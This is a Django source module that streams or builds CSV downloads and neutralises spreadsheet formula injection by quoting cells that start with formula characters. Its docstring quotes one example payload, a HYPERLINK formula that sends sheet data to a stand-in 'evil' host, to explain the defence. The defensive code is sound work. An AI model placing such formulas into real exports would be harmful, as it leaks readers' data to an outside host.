"""The one way the service writes a CSV file for download.

Exports are opened in spreadsheets, and a spreadsheet runs a cell that begins with `=`, `+`,
`-` or `@` as a formula (tab and carriage return let one hide behind leading whitespace). Names,
purposes and imported text reach exports from users, administrators and other systems, so a
name like `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run a command on the
reader's machine. Every cell that is text goes through `neutralise`, which puts a single quote in
front of such a cell (OWASP, "CSV Injection"): the spreadsheet then shows it as text. Numbers
are left alone: they are never formulas, and a negative count must stay a number.

Every export builds its rows and hands them to `streamed` (long lists: never held in memory
whole) or `whole` (short reports); nothing else in the code calls `csv.writer` for a download
(tests/casework/test_csv_export.py checks).
"""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a CSV cell a spreadsheet shows as text, never runs as a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int: also safe
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row: Iterable) -> list:
    return [neutralise(value) for value in row]


class _Echo:
    """A file-like object that hands each written line back, for streaming."""

    def write(self, value):
        return value


def lines(rows: Iterable[Iterable], header: Iterable | None = None):
    """The header and each row as one CSV line, neutralised. An empty row gives an empty line."""
    writer = csv.writer(_Echo())
    if header is not None:
        yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def _attachment(response, filename: str):
    safe = "".join(ch if ch.isalnum() or ch in "-_." else "-" for ch in filename)[:100] or "export.csv"
    response["Content-Disposition"] = f'attachment; filename="{safe}"'
    return response


def streamed(filename: str, rows: Iterable[Iterable], header: Iterable | None = None) -> StreamingHttpResponse:
    """A download written as it is read (rows may be a generator over a database iterator)."""
    return _attachment(StreamingHttpResponse(lines(rows, header), content_type="text/csv"), filename)


def whole(filename: str, rows: Iterable[Iterable], header: Iterable | None = None) -> HttpResponse:
    """A short download built in memory (a report of a few tables)."""
    buffer = io.StringIO()
    buffer.writelines(lines(rows, header))
    return _attachment(HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8"), filename)
